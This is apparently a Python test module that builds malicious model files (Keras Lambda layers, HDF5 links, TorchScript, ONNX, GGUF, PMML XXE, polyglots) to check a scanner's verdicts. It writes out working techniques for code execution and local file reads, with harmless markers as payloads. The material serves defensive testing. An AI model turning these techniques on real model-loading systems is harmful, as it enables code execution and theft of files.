"""Attacks in the formats of other frameworks: each a folder of files, and where its library is here, a proof.

A proof is a program that loads the file with the real library in a child process; the attack works if the marker is
there afterwards (or the secret beside the folder is in what was loaded). Attacks without one are structural: TensorFlow
is not installed, and a header that crashes a parser in C proves nothing about others.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import struct
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path

import framework_files
import pickle_builder as b
from attacks.mechanism import BLOCK, REVIEW
from framework_files import KERAS_CONFIG, PMML, VECTORS, hdf5_model, keras_archive, onnx_model
from zip_builder import Member

SECRET = b"secret of somebody else"


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """``files`` gives the content of each file of the folder, for a marker; the first is the one that is loaded.

    ``proof`` is a program that gets the file, the marker and ``SECRET`` as its arguments and fails if nothing happened.
    """

    title: str
    family: str
    files: Callable[[Path], Mapping[str, bytes]]
    at_least: str = BLOCK
    proof: str | None = None


def _layer(name: str, config: Mapping[str, object], **more: object) -> dict[str, object]:
    layer = {"module": "keras.layers", "class_name": name, "config": {"name": "l", **config}, "registered_name": None}
    inner = {"class_name": "InputLayer", "config": {"batch_shape": [None, 3], "dtype": "float32", "name": "i"}}
    first = {"module": "keras.layers", "registered_name": None, **inner}
    return {**KERAS_CONFIG, "config": {"name": "s", "layers": [first, {**layer, **more}]}}


def _code(marker: Path) -> str:
    source = f"lambda x: (__import__('pathlib').Path({str(marker)!r}).touch(), x)[1]"
    return base64.b64encode(marshal.dumps(eval(source).__code__)).decode()


def _lambda(marker: Path) -> dict[str, object]:
    value = {"class_name": "__lambda__", "config": {"code": _code(marker), "defaults": None, "closure": None}}
    return _layer("Lambda", {"function": value, "arguments": {}})


def _script(name: str) -> Callable[[Path], Mapping[str, bytes]]:
    def files(marker: Path) -> Mapping[str, bytes]:
        import torch
        from attacks import programs

        file = io.BytesIO()
        torch.jit.save(torch.jit.script(getattr(programs, name)(str(marker))), file)
        return {"model.pt": file.getvalue()}

    return files


def _external(make: Callable[[object], None]) -> Callable[[Path], Mapping[str, bytes]]:
    def files(marker: Path) -> Mapping[str, bytes]:
        import h5py

        file = io.BytesIO()
        with h5py.File(file, "w") as model:
            make(model)
        return {"model.h5": file.getvalue()}

    return files


def _storage(model: object) -> None:
    model.create_dataset("w", shape=(len(SECRET),), dtype="u1", external=[("../secret", 0, len(SECRET))])


def _link(model: object) -> None:
    import h5py

    model["w"] = h5py.ExternalLink("../secret.h5", "/w")


def _one(name: str, raw: Callable[[], bytes]) -> Callable[[Path], Mapping[str, bytes]]:
    return lambda marker: {name: raw()}


def _vector(name: str) -> Callable[[Path], Mapping[str, bytes]]:
    return _one(name, (VECTORS / "tensorflow" / name).read_bytes)


def _gguf(tensors: int, entries: int, rest: bytes = b"") -> bytes:
    return b"GGUF" + struct.pack("<IQQ", 3, tensors, entries) + rest


def _text(value: bytes) -> bytes:
    return struct.pack("<Q", len(value)) + value


def _template(text: bytes) -> bytes:
    return _gguf(0, 1, _text(b"tokenizer.chat_template") + struct.pack("<I", 8) + _text(text))


def _custom_operator() -> bytes:
    import onnx

    model = onnx.load_from_string(onnx_model())
    model.graph.node[0].domain = "evil.example"
    return model.SerializeToString()


def _python_operator() -> bytes:
    import onnx

    model = onnx.load_from_string(onnx_model())
    model.graph.node[0].domain, model.graph.node[0].op_type = "com.microsoft", "PythonOp"
    return model.SerializeToString()


_RUN = b.stream(b.call("os.system", b.text("true")))
_ENTITY = '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_LOAD_KERAS = """
import os, sys
os.environ["KERAS_BACKEND"] = "torch"
import keras
try:
    keras.saving.load_model(sys.argv[1], safe_mode=False)(keras.ops.ones((1, 3)))
except Exception as error:
    print(error)
"""
_LOAD_SCRIPT = "import sys, torch\nmodel = torch.jit.load(sys.argv[1])\nprint(model(torch.ones(2)))"
_LOAD_ONNX = "import sys, onnx\nmodel = onnx.load(sys.argv[1])\nprint(model.graph.initializer[0].raw_data)"
_LOAD_HDF5 = "import sys, h5py\nprint(bytes(h5py.File(sys.argv[1])['w'][:]))"
_LOAD_GGUF = "import sys, gguf\ngguf.GGUFReader(sys.argv[1])"

ATTACKS = (
    Attack(
        title="a Lambda layer in an archive of Keras",
        family="keras",
        files=lambda marker: {"model.keras": keras_archive(_lambda(marker))},
        proof=_LOAD_KERAS,
    ),
    Attack(
        title="a Lambda layer in a file of HDF5",
        family="keras",
        files=lambda marker: {"model.h5": hdf5_model(_lambda(marker))},
    ),
    Attack(
        title="a layer of a module that starts processes",
        family="keras",
        files=lambda marker: {"model.keras": keras_archive(_layer("system", {}, module="os"))},
    ),
    Attack(
        title="a layer that loads a saved model",
        family="keras",
        files=lambda marker: {"model.keras": keras_archive(_layer("TFSMLayer", {"filepath": "https://host/m"}))},
    ),
    Attack(
        title="a layer that unpickles a module of torch",
        family="keras",
        files=lambda marker: {"model.keras": keras_archive(_layer("TorchModuleWrapper", {"module": "gASVAA=="}))},
    ),
    Attack(
        title="a vocabulary that is a file of the machine",
        family="keras",
        files=lambda marker: {"model.keras": keras_archive(_layer("StringLookup", {"vocabulary": "/etc/passwd"}))},
    ),
    Attack(
        title="a pickle among the assets of an archive of Keras",
        family="keras",
        files=lambda marker: {"model.keras": keras_archive(KERAS_CONFIG, Member(name=b"assets/v.pkl", data=_RUN))},
    ),
    Attack(
        title="a dataset that is another file",
        family="hdf5",
        files=_external(_storage),
    ),
    Attack(title="a link to another file", family="hdf5", files=_external(_link), proof=_LOAD_HDF5),
    Attack(
        title="an attribute that is a pickle",
        family="hdf5",
        files=_external(lambda model: model.attrs.__setitem__("table", b"cos\nsystem\n(S'true'\ntR.")),
    ),
    Attack(
        title="a program that writes a file",
        family="torchscript",
        files=_script("Writes"),
        proof=_LOAD_SCRIPT,
    ),
    Attack(
        title="a program that changes a file",
        family="torchscript",
        files=_script("Changes"),
        proof=_LOAD_SCRIPT,
    ),
    Attack(
        title="tensors in a file outside of the folder",
        family="onnx",
        files=lambda marker: {"model.onnx": onnx_model(location="../secret", offset=0, length=8)},
    ),
    Attack(
        title="tensors behind the end of their file",
        family="onnx",
        files=lambda marker: {"model.onnx": onnx_model(location="d", offset=1 << 40, length=8), "d": b"\xff" * 8},
        at_least=REVIEW,
    ),
    Attack(
        title="an operator of a library of its own",
        family="onnx",
        files=_one("m.onnx", _custom_operator),
        at_least=REVIEW,
    ),
    Attack(title="an operator that is Python", family="onnx", files=_one("m.onnx", _python_operator)),
    Attack(title="a graph that reads files", family="tensorflow", files=_vector("reads.saved_model.pb")),
    Attack(title="a graph that writes files", family="tensorflow", files=_vector("writes.saved_model.pb")),
    Attack(title="a graph that prints to a file", family="tensorflow", files=_vector("prints.saved_model.pb")),
    Attack(title="a graph that calls Python", family="tensorflow", files=_vector("python.saved_model.pb")),
    Attack(title="an operator of TensorFlow that reads files", family="tflite", files=_vector("reads.tflite")),
    Attack(
        title="a graph as text that reads files",
        family="tensorflow",
        files=_one("saved_model.pbtxt", lambda: b'node { op: "ReadFile" }'),
    ),
    Attack(
        title="a template that escapes",
        family="gguf",
        files=_one("m.gguf", lambda: _template(b"{{ ''.__class__.__mro__[1].__subclasses__() }}")),
    ),
    Attack(title="more values than can be", family="gguf", files=_one("m.gguf", lambda: _gguf(0, 1 << 62))),
    Attack(
        title="an array whose size overflows",
        family="gguf",
        files=_one("m.gguf", lambda: _gguf(0, 1, _text(b"a") + struct.pack("<IIQ", 9, 12, (1 << 61) + 1))),
    ),
    Attack(
        title="a tensor whose size overflows",
        family="gguf",
        files=_one("m.gguf", lambda: _gguf(1, 0, _text(b"w") + struct.pack("<IQQIQ", 2, 1 << 40, 1 << 40, 0, 0))),
    ),
    Attack(
        title="an entity that is a file of the machine",
        family="xml",
        files=_one("m.pmml", lambda: PMML.replace("?>\n", f"?>\n{_ENTITY}", 1).encode()),
    ),
    Attack(
        title="a layer of an extension",
        family="xml",
        files=_one("m.xml", lambda: b'<net><layers><layer type="Evil" version="extension"/></layers></net>'),
        at_least=REVIEW,
    ),
    Attack(
        title="a program behind a model",
        family="flax",
        files=_one("m.msgpack", lambda: framework_files.FILES["flax_model.msgpack"]() + b"#!/bin/sh\nid\n"),
        at_least=REVIEW,
    ),
    Attack(
        title="an object array",
        family="flax",
        files=_one("m.msgpack", lambda: b"\x81\xa1w\xc7\x0c\x01\x93\x91\x01\xa6object\xc4\x01x"),
    ),
    Attack(
        title="a file of HDF5 in a file of another kind",
        family="polyglot",
        files=lambda marker: {"m.onnx": onnx_model().ljust(512, b"\0")[:512] + hdf5_model(_lambda(marker))},
    ),
    Attack(
        title="a program that runs everywhere",
        family="polyglot",
        files=_one("m.gguf", lambda: b"MZqFpD='\n" + bytes(99)),
    ),
)


def write_attack(attack: Attack, folder: Path, number: int) -> tuple[Path, Path, Path]:
    """The folder of one attack below ``folder``, the file in it that is loaded, and the marker."""
    place, marker = folder / str(number) / "model", folder / str(number) / "marker"
    place.mkdir(parents=True)
    (place.parent / "secret").write_bytes(SECRET)
    files = attack.files(marker)
    for name, raw in files.items():
        (place / name).write_bytes(raw)
    return place, place / next(iter(files)), marker


def describe(attack: Attack) -> str:
    """One line for a table."""
    return json.dumps([attack.family, attack.title, "live" if attack.proof else "structural"])
